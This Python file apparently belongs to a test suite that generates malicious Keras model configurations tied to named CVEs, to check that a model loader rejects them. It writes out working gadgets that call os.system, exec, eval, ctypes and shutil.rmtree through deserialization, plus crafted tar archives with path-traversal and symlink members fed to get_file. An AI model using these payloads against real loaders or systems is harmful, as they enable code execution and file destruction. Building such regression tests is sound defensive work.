"""Functions named by the file: gadgets of Python, of Keras and of its companions.

CVE-2025-1550 (any attribute of any module), CVE-2025-8747 and CVE-2025-9906 (functions
inside keras.*), the get_file family (CVE-2021-35958, CVE-2024-55459, CVE-2025-12060,
CVE-2025-12638, CVE-2026-11816, CVE-2026-12482), and rules 1 and 2.
"""

from __future__ import annotations

import io
import tarfile
from typing import TYPE_CHECKING

from attack.case import Case, Gadget, expand, placed
from attack.configs import SLOTS, call, compiled, dense, function, functional, layer, obj, tensor
from attack.stage import MODULE

if TYPE_CHECKING:
    from collections.abc import Callable

    from attack.stage import Stage

FAMILY = "functions"
OLD = ("keras", "h5", "json", "yaml", "tfjs", "dict")


def node(module: str | None, name: str, *args: object, **kwargs: object) -> dict[str, object]:
    """CVE-2025-1550: a function as a node of the graph, called with arguments of the file."""
    return functional(
        {**function(module, name), "name": "f", "inbound_nodes": [call(*args, **kwargs)]}
    )


def lambda_of(module: str | None, name: str, **arguments: object) -> dict[str, object]:
    """CVE-2025-8747: the function of a Lambda layer, with its keyword arguments."""
    victim = layer("Lambda", "victim", function=function(module, name), arguments=arguments)
    return functional(victim)


# Python's own. Each is called with what makes it leave a trace.
PYTHON: dict[str, Callable[[Stage], tuple[str | None, str, object]]] = {
    "os-system": lambda s: ("os", "system", s.command),
    "posix-system": lambda s: ("posix", "system", s.command),
    "subprocess-run": lambda s: ("subprocess", "getoutput", s.command),
    "builtins-eval": lambda s: ("builtins", "eval", s.statement),
    "builtins-exec": lambda s: ("builtins", "exec", s.statement),
    "builtins-import": lambda s: ("builtins", "__import__", MODULE),
    "importlib": lambda s: ("importlib", "import_module", MODULE),
    "runpy": lambda s: ("runpy", "run_module", MODULE),
    "pydoc-locate": lambda s: ("pydoc", "locate", MODULE),
    "timeit": lambda s: ("timeit", "timeit", s.statement),
    "cprofile": lambda s: ("cProfile", "run", s.statement),
    "ctypes": lambda s: ("ctypes", "CDLL", str(s.root / "library.so")),
    "shutil": lambda s: ("shutil", "rmtree", str(s.root)),
    "numpy-load": lambda s: ("numpy", "load", str(s.bait())),
    "open": lambda s: ("builtins", "open", str(s.bait())),
    "urlopen": lambda s: ("urllib.request", "urlopen", s.url),
    "main": lambda s: ("__main__", "exec", s.statement),
    "no-module": lambda s: (None, "exec", s.statement),
    "module-of-keras": lambda s: ("keras.src.utils.python_utils", "marshal", "x"),
    "attribute-of-keras": lambda s: ("keras.src.utils.file_utils", "os.system", s.command),
}

# Inside keras.*, all exported; every one of them does more than compute.
KERAS: dict[str, tuple[str, ...]] = {
    "keras.utils": (
        "get_file load_img save_img plot_model model_to_dot image_dataset_from_directory",
        "text_dataset_from_directory audio_dataset_from_directory set_random_seed clear_session",
        "timeseries_dataset_from_array register_keras_serializable get_custom_objects",
        "deserialize_keras_object serialize_keras_object custom_object_scope get_source_inputs",
        "disable_interactive_logging get_registered_object split_dataset pad_sequences",
    ),
    "keras.config": (
        "enable_unsafe_deserialization set_backend set_dtype_policy set_epsilon set_floatx",
        "set_image_data_format disable_traceback_filtering set_max_epochs",
    ),
    "keras.saving": (
        "load_model load_weights save_model save_weights deserialize_keras_object",
        "get_custom_objects register_keras_serializable custom_object_scope",
    ),
    "keras.models": ("load_model save_model model_from_json clone_model",),
    "keras.backend": ("clear_session set_floatx set_epsilon get_uid",),
    "keras.distribution": ("initialize set_distribution list_devices",),
    "keras.preprocessing.image": ("load_img save_img",),
    "keras.datasets.mnist": ("load_data",),
    "keras.datasets.imdb": ("load_data get_word_index",),
    "keras.applications": ("ResNet50 VGG16 MobileNetV2",),
    "keras.applications.imagenet_utils": ("decode_predictions",),
    "keras.layers": ("deserialize serialize Input add concatenate",),
    "keras.optimizers": ("deserialize get",),
    "keras.activations": ("deserialize get serialize",),
    "keras.initializers": ("deserialize get",),
    "keras.ops": ("map scan while_loop fori_loop cond switch vectorized_map custom_gradient",),
    "keras.tree": ("map_structure traverse",),
    "keras.random": ("normal uniform",),
    "keras": ("Input name_scope version device",),
}

# The same function by other names; none of these may be found by a prefix or by an import.
GET_FILE = {
    "src": "keras.src.utils.file_utils",
    "src-utils": "keras.src.utils",
    "api": "keras.api.utils",
    "tf-keras": "tf_keras.utils",
    "tf-keras-src": "tf_keras.src.utils.data_utils",
    "tensorflow": "tensorflow.keras.utils",
    "tensorflow-python": "tensorflow.python.keras.utils.data_utils",
    "keras-tf-keras": "keras._tf_keras.keras.utils",
    "legacy": "keras.src.legacy.backend",
    "hub": "keras_hub.src.utils.preset_utils",
    "cv": "keras_cv.utils",
    "nlp": "keras_nlp.utils",
}


def value_in_slot(stage: Stage) -> object:
    """`os.system`, where an object is expected."""
    return function("os", "system")


def exec_in_slot(stage: Stage) -> object:
    """modelscan 340: `builtins.exec` as an initializer."""
    return function("builtins", "exec")


def get_file_in_slot(stage: Stage) -> object:
    """`keras.utils.get_file`, where an object is expected."""
    return function("keras.utils", "get_file")


def import_in_slot(stage: Stage) -> object:
    """A class of a module whose mere import leaves a trace."""
    return obj(MODULE, "Zen", {}, "Zen")


def python_function(name: str) -> Callable[[Stage], object]:
    """A function of Python as a graph node."""

    def make(stage: Stage) -> object:
        module, attribute, argument = PYTHON[name](stage)
        return node(module, attribute, argument)

    return make


def keras_function(module: str, name: str, door: str) -> Callable[[Stage], object]:
    """A function of Keras as a graph node, or as a Lambda's function."""
    return lambda _stage: (node if door == "node" else lambda_of)(module, name)


def download(module: str) -> Callable[[Stage], object]:
    """get_file as the function of a Lambda, fetching from the stage's socket."""
    return lambda stage: lambda_of(
        module, "get_file", fname="loot", origin=stage.url, cache_dir=str(stage.root)
    )


def tar_with(stage: Stage, kind: str) -> str:
    """A tar that leaves its folder when unpacked without care; as a file:// URL."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        data = b"fired"
        if kind in ("link", "dotdot-link"):
            link = tarfile.TarInfo("link")
            target = stage.root if kind == "link" else stage.bait().parent
            link.type, link.linkname = tarfile.SYMTYPE, str(target)
            tar.addfile(link)
        elif kind == "hard-link":
            link = tarfile.TarInfo("link")
            link.type, link.linkname = tarfile.LNKTYPE, str(stage.root / "bait" / "bait.txt")
            tar.addfile(link)
        names = {"parent": "../../fired", "absolute": str(stage.root / "fired")}
        names |= {"link": "link/fired", "hard-link": "link", "dotdot-link": "link/../fired"}
        member = tarfile.TarInfo(names[kind])
        member.size = len(data)
        tar.addfile(member, io.BytesIO(data))
    path = stage.bait("evil.tar", buffer.getvalue())
    return path.as_uri()


def extract(kind: str, door: str) -> Callable[[Stage], object]:
    """get_file(extract=True) on such a tar, as a Lambda's function or as a graph node."""

    def make(stage: Stage) -> object:
        arguments: dict[str, object] = {"fname": "loot", "origin": tar_with(stage, kind)}
        arguments |= {"extract": True, "cache_dir": str(stage.root / "cache")}
        if door == "lambda":
            return lambda_of("keras.utils", "get_file", **arguments)
        return node("keras.utils", "get_file", **arguments)

    return make


def unsafe_mode(stage: Stage) -> object:
    """CVE-2025-9906: first switch safe mode off, then bring a lambda."""
    code = {"code": stage.lambda_code(), "defaults": None, "closure": None}
    switch = {**function("keras.config", "enable_unsafe_deserialization"), "name": "switch"}
    switch["inbound_nodes"] = [call()]
    victim = layer("Lambda", "victim", function={"class_name": "__lambda__", "config": code})
    return functional(switch, victim)


def mapped(name: str) -> Callable[[Stage], object]:
    """An operation that takes a function, given one of Python's."""
    return lambda stage: functional(
        {
            **obj("keras.src.ops.core", name, {"function": function("os", "system"), "name": "m"}),
            "inbound_nodes": [call(tensor())],
        }
    )


def bare_string(text: str, slot: str) -> Gadget:
    """A string identifier that names what no table of Keras holds."""
    return placed(f"string-{text}", slot, "rule-1", FAMILY, lambda _stage: text)


TARS = {
    "CVE-2021-35958": ("parent", "lambda"),
    "CVE-2024-55459": ("absolute", "lambda"),
    "CVE-2025-12060": ("link", "lambda"),
    "CVE-2025-12638": ("link", "node"),
    "CVE-2026-11816": ("absolute", "node"),
    "CVE-2026-12482": ("dotdot-link", "lambda"),
}

GADGETS = [
    *(
        Gadget(f"node-{name}", "CVE-2025-1550", FAMILY, python_function(name), "/config/layers/1")
        for name in PYTHON
    ),
    *(
        placed(name, slot, advisory, FAMILY, value)
        for slot in SLOTS
        for name, advisory, value in (
            ("os-system", "CVE-2025-1550", value_in_slot),
            ("builtins-exec", "rule-1", exec_in_slot),
            ("get-file", "CVE-2025-8747", get_file_in_slot),
            ("import", "CVE-2025-1550", import_in_slot),
        )
    ),
    *(
        placed("os-system", slot, "CVE-2025-1550", FAMILY, value_in_slot, ("h5", "yaml", "tfjs"))
        for slot in ("activation", "kernel-initializer", "lambda-function", "loss", "metric")
    ),
    *(
        Gadget(
            f"{door}-{module}.{name}",
            "CVE-2025-9906" if module == "keras.config" else "CVE-2025-8747",
            FAMILY,
            keras_function(module, name, door),
            "/config/layers/1",
            ("keras", "dict"),
        )
        for module, rows in KERAS.items()
        for name in " ".join(rows).split()
        for door in ("node", "lambda")
    ),
    *(
        Gadget(f"get-file-{name}", "CVE-2025-8747", FAMILY, download(module), "/config/layers/1")
        for name, module in GET_FILE.items()
    ),
    Gadget("get-file", "CVE-2025-8747", FAMILY, download("keras.utils"), "/config/layers/1", OLD),
    *(
        Gadget(f"extract-{kind}-{door}", advisory, FAMILY, extract(kind, door), "/config/layers/1")
        for advisory, (kind, door) in TARS.items()
    ),
    Gadget("switch-then-lambda", "CVE-2025-9906", FAMILY, unsafe_mode, "/config/layers/1", OLD),
    *(
        Gadget(f"operation-{name}", "rule-2", FAMILY, mapped(name), "/config/layers/1")
        for name in (
            "Map",
            "Scan",
            "AssociativeScan",
            "WhileLoop",
            "ForiLoop",
            "Cond",
            "Switch",
            "VectorizedMap",
        )
    ),
    *(
        bare_string(text, slot)
        for text in ("os.system", "keras.utils.get_file", "exec", "deserialize", "os>system")
        for slot in ("activation", "kernel-initializer", "loss", "metric", "optimizer")
    ),
    Gadget(
        "metric-list-of-functions",
        "rule-2",
        FAMILY,
        lambda _stage: compiled(metrics=[[function("keras.utils", "get_file")]]),
        "/compile_config/metrics",
    ),
    Gadget(
        "function-config-not-text",
        "rule-2",
        FAMILY,
        lambda _stage: functional(dense(activation=obj("builtins", "function", {"a": "relu"}))),
        "/config/layers/1",
        errors=("LoadDenied", "MalformedArtifact"),
    ),
]

CASES: list[Case] = expand(GADGETS)
